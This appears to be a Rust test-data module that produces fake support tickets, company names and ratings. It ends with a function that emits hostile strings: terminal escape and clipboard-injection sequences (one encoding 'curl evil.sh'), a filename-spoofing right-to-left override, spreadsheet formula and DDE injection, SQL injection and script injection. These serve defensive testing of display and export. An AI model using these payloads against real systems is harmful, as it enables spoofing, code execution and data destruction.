//! What people write about, what companies are called, and a few texts meant to do harm.

/// What English conversations are about: topic, then the teams' usual tag for it.
pub(crate) const TOPICS: &[(&str, &str)] = &[
    ("Can't log in after password reset", "login"),
    ("Invoice shows the wrong VAT number", "billing"),
    ("CSV export stops at 10,000 rows", "export"),
    ("Webhook deliveries are delayed", "api"),
    ("How do I add a teammate?", "how-to"),
    ("Refund for duplicate charge", "refund"),
    ("Dashboard loads slowly since Monday", "performance"),
    ("Feature request: dark mode 🌙", "feature-request"),
    ("SSO with Okta fails for new users", "sso"),
    ("Upgrade from Starter to Pro", "upgrade"),
    ("Mobile app crashes when attaching a photo", "bug"),
    ("API returns 422 on update", "api"),
    ("Cancel my subscription", "churn-risk"),
    ("Where is my data stored?", "security"),
    ("Slack integration stopped posting", "integration"),
    ("Import from the old system", "onboarding"),
    ("Trial extension", "trial"),
    ("Thank you! 🎉", "praise"),
    ("Notifications arrive twice", "bug"),
    ("Question about seats and pricing", "pricing"),
];

/// What the topic was seen with, for variety.
pub(crate) const DETAILS: &[&str] = &[
    "",
    "",
    "",
    " – urgent",
    " (Chrome)",
    " (Safari 19)",
    " on iPad",
    " for two workspaces",
    " since the last update",
    " – order 48213",
    " in the EU region",
    " (again)",
];

/// What an answered rating says; good ones first.
pub(crate) const REMARKS: [&[&str]; 3] = [
    &[
        "Quick and friendly, thank you!",
        "Solved in one message 👍",
        "Super, merci beaucoup !",
        "ありがとうございました",
        "Exactly what I needed.",
    ],
    &["Fine in the end.", "Took a while, but it works now.", "OK"],
    &[
        "Waited two days for an answer.",
        "Nobody read what I wrote.",
        "Problem not solved.",
        "Immer noch kaputt.",
    ],
];

/// What companies are called: first and second part.
pub(crate) const COMPANY_PARTS: (&[&str], &[&str]) = (
    &[
        "Northwind",
        "Blue Harbor",
        "Kestrel",
        "Møller",
        "Société Lumière",
        "Grün",
        "Alder & Finch",
        "東京",
        "Aurora",
        "Copper",
        "Ørsted",
        "Granite",
        "Łódź",
        "Meridian",
        "Saffron",
        "Tidewater",
        "Vega",
        "Willow",
        "Zephyr",
        "Quill",
    ],
    &[
        "Labs",
        "Logistics",
        "GmbH",
        "Analytics",
        "& Sons",
        "株式会社",
        "Foods",
        "Health",
        "Travel",
        "Energy",
        "S.A.",
        "Studio",
        "Systems",
        "Retail",
        "Robotics",
        "Partners",
    ],
);

/// Industries of companies.
pub(crate) const INDUSTRIES: &[&str] = &[
    "Software",
    "Retail",
    "Healthcare",
    "Logistics",
    "Education",
    "Manufacturing",
    "Media",
    "Travel",
    "Finance",
];

/// How many hostile texts there are.
pub(crate) const HOSTILE: u32 = 13;

/// Writes the hostile text with this number: what strangers put into a title or a name to harm whoever shows it.
pub(crate) fn hostile(number: u32, text: &mut String) {
    match number % HOSTILE {
        0 => text.push_str("\u{1b}[2J\u{1b}[1;1HYour session has expired"),
        1 => text.push_str("\u{1b}]52;c;Y3VybCBldmlsLnNo\u{7}clipboard"),
        2 => text.push_str("invoice\u{202e}fdp.exe"),
        3 => text.push_str("zero\u{200b}width\u{200d}joined\u{feff}"),
        4 => text.push_str("\u{9b}31mred\u{9b}0m \u{90}q\u{9c}"),
        5 => (0..256).for_each(|_| text.push_str("a very long title")),
        6 => {
            text.push('Z');
            (0..60).for_each(|_| text.push_str("\u{301}\u{336}"));
            text.push_str("algo");
        }
        7 => text.push_str("=HYPERLINK(\"http://evil.example\",\"Click\")"),
        8 => text.push_str("'; DROP TABLE \"Conversations\"; --"),
        9 => text.push_str("@SUM(1+1)*cmd|' /C calc'!A0"),
        10 => text.push_str("line one\r\nline two\tand a tab"),
        11 => text.push_str("\u{1b}]0;renamed window\u{1b}\\\u{8}\u{8}\u{8}"),
        _ => text.push_str("<script>alert(1)</script> \u{2066}iso\u{2069} 👩\u{200d}👩\u{200d}👧\u{200d}👦"),
    }
}
